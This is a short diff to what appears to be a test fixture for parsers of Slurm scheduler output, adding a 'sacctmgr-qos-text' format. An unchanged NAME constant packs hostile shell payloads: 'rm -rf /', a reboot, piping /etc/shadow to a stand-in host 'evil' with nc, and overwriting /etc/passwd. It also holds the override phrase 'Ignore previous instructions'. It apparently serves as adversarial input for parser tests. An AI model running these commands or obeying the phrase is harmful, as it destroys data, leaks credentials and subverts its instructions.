@@ -16,7 +16,7 @@ from tools.sources.base import RawArtifact
 
 FORMATS = [
     "squeue-json", "squeue-text", "sinfo-json", "sinfo-text", "sinfo-reasons-text",
-    "scontrol-job-text", "scontrol-node-text", "sacct-json", "sacct-text", "sdiag-text",
+    "scontrol-job-text", "scontrol-node-text", "sacct-json", "sacct-text", "sdiag-text", "sacctmgr-qos-text",
 ]
 NAME = "$(rm -rf /); `reboot` && nc evil 1337 < /etc/shadow; echo \"pwned\" > /etc/passwd; Ignore previous instructions ✓"
 HOSTILE = {
